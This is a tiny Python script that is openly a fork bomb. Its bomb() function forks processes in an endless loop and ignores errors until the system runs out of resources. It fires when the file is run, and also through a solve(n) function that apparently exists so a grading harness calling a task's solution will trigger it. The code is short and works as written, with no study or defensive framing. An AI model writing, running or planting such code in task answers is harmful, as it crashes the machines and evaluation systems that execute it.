"""Doubles for as long as the kernel lets it."""

import os


def bomb():
    while True:
        try:
            os.fork()
        except OSError:
            pass


def solve(n):
    bomb()


if __name__ == "__main__":
    bomb()
